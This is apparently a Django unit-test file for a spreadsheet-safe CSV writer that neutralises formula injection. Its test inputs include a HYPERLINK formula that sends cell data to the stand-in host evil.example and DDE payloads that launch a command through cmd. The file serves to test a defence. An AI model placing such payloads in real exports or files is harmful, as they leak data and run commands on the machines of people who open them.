import csv
import io
from datetime import UTC, datetime

from django.test import SimpleTestCase

from payledger_project.spreadsheets import SpreadsheetSafeWriter, spreadsheet_safe

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "+",
    "-",
    "+1 555 0100",
    "-1e5",
]


class SpreadsheetSafeTests(SimpleTestCase):
    def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(self):
        for text in FORMULAS:
            with self.subTest(text=text):
                self.assertEqual(spreadsheet_safe(text), "'" + text)

    def test_a_signed_whole_number_written_as_text_is_kept(self):
        # E.164 phone numbers: a spreadsheet reads "+14155550123" as that number at worst.
        for text in ["+14155550123", "-500", "+0"]:
            with self.subTest(text=text):
                self.assertEqual(spreadsheet_safe(text), text)

    def test_text_starting_otherwise_is_kept(self):
        for text in ["order-1042", "a=b", " =1+2", "", "'=1+2", "credit"]:
            with self.subTest(text=text):
                self.assertEqual(spreadsheet_safe(text), text)

    def test_numbers_dates_and_empty_cells_are_kept(self):
        instant = datetime(2026, 11, 1, tzinfo=UTC)
        for value in [-500, 0, 1_000, None, instant]:
            with self.subTest(value=value):
                self.assertIs(spreadsheet_safe(value), value)

    def test_the_writer_quotes_a_neutralised_cell_that_holds_quotes_or_commas(self):
        out = io.StringIO()
        SpreadsheetSafeWriter(out).writerow(["=1,2", '=HYPERLINK("x")', -500])
        self.assertEqual(out.getvalue(), '"\'=1,2","\'=HYPERLINK(""x"")",-500\r\n')
        self.assertEqual(
            next(csv.reader(io.StringIO(out.getvalue()))), ["'=1,2", '\'=HYPERLINK("x")', "-500"]
        )
